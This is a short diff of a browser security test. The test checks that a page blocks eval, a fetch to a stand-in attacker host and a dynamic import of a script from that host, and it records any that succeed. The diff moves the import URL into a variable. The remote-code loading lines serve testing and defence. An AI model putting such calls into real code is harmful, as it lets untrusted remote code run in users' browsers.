@@ -81,7 +81,8 @@ test('it stops what somebody else would bring in', async ({ device: { page }, no
       // eslint-disable-next-line no-eval, no-implied-eval -- what has to be stopped
       (0, eval)('ran("eval")')
     } catch { /* as it should be */ }
-    for (const reach of [() => fetch('https://evil.example/'), () => import(/* @vite-ignore */ 'https://evil.example/y.js')]) await (reach() as Promise<unknown>).then(() => done.push('reached'), () => undefined)
+    const elsewhere: string = 'https://evil.example/y.js'
+    for (const reach of [() => fetch('https://evil.example/'), () => import(elsewhere)]) await (reach() as Promise<unknown>).then(() => done.push('reached'), () => undefined)
     if (document.baseURI.includes('evil')) done.push('base')
     return done
   })
